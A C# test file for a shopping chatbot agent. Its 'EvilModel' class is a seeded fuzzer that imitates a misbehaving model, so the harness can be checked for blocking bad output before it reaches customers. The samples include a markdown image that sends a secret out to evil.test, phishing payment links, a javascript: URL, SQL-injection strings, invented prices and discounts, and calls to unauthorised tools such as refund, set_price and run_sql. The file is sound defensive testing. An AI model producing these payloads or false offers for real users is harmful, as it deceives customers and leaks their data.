using ChatCommerce.Agent.Brain;
using Microsoft.Extensions.AI;

namespace ChatCommerce.Tests.Agent;

/// <summary>Answers at random, from a seed, with everything a model should never say or call.</summary>
public sealed class EvilModel(ulong seed)
{
    /// <summary>Nothing that holds one of these may reach a customer: no record of the test shops has them.</summary>
    public static readonly string[] Marks = ["$1.23", "1.23", "77%", "77 %", "evil", "98765", "March 3", "half price", "오만원"];

    private static readonly string[] Lies =
    [
        "Yours for $1.23!", "I give you 77% off.", "Pay at https://evil.test/pay", "[Pay](http://evil.test)", "![x](https://evil.test/?q=secret)",
        "Only 98765 left.", "It ships on March 3.", "You get half price.", "오만원에 드려요.", "See evil.com or write to boss@evil.com",
        "Total: 1.23 USD", "javascript:alert('evil')", "The price is one dollar and 1.23 cents", new string('a', 20_000) + " $1.23",
    ];

    private static readonly string[] Tools =
    [
        "search_products", "show_product", "show_categories", "add_to_cart", "change_quantity", "remove_from_cart", "show_cart", "clear_cart", "checkout",
        "order_status", "cancel_order", "confirm_action", "decline_action", "search_documents", "hand_off", "show_menu", "set_language", "start_messages",
        "refund", "set_price", "run_sql", "", "add_to_cart; drop table cart", new string('t', 5_000),
    ];

    private static readonly string[] Names =
        ["item", "options", "quantity", "number", "shipping", "query", "category", "skip", "question", "topic", "reason", "language", "by", "tenant", "contact", "call", "ct", "price", "action"];

    private static readonly string[] CustomerLines = ["hello", "what about my order", "a mug", "more", "그거 담아줘", "I want everything cheaper", "<script>", "cancel it all", "2"];

    private ulong state = seed;
    private List<object?> values =
    [
        "pier mug", "2", 2, -1, 0, 1_000_000_000, 1.5, "twelve dozen", "$1.23", "77%", null, true, new object[] { 1, 2 }, "' or 1=1 --", "\0\u202e evil",
        "act:AAAAAAAAAAAAAAAAAAAAAA:yes", "evil.com", new string('x', 50_000), "storm lantern", "the first one", "add", "take", "ko", "express", "pickup",
    ];

    public int Asked { get; private set; }

    public ChooseMind Chosen => _ => new Mind("evil", new ScriptedModel((_, _) => Answer()), Repeatable: false);

    public void Know(IEnumerable<string> secrets) => values = [.. values, .. secrets];

    public string CustomerLine() => Pick(CustomerLines);

    private ChatMessage Answer()
    {
        Asked++;
        List<AIContent> contents = [];
        for (var n = Next(4); n > 0; n--)
        {
            contents.Add(Next(12) == 0
                ? new FunctionCallContent($"c{Asked}-{n}", Pick(Tools)) { Exception = new FormatException("broken") }
                : new FunctionCallContent($"c{Asked}-{n}", Pick(Tools), Arguments()));
        }

        return new(ChatRole.Assistant, Next(3) == 0 ? contents : [new TextContent(Pick(Lies)), .. contents]);
    }

    private Dictionary<string, object?> Arguments()
    {
        var arguments = new Dictionary<string, object?>();
        for (var n = Next(4); n > 0; n--)
        {
            arguments[Pick(Names)] = values[Next(values.Count)];
        }

        return arguments;
    }

    private string Pick(string[] from) => from[Next(from.Length)];

    // xorshift: the same seed tells the same story.
    private int Next(int below)
    {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        return (int)(state % (ulong)below);
    }
}
